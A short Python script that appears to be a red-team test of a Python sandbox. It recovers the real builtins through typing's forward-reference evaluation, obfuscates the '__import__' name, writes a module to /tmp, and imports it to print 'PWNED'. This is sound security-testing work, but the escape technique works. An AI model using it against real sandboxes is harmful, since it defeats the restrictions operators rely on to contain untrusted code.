# eval: the same /tmp module imported straight from the program by the real __import__
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

s = rb["__imp" + "ort__"]("sy" + "s")
with open("/tmp/rt_evilmod3.py", "w") as f:
    f.write("import os\nprint('PWN' + 'ED', os.getpid())\n")
s.path.insert(0, "/tmp")
try:
    imp("rt_evilmod3")
except Exception as e:
    print("refused:", type(e).__name__, e)
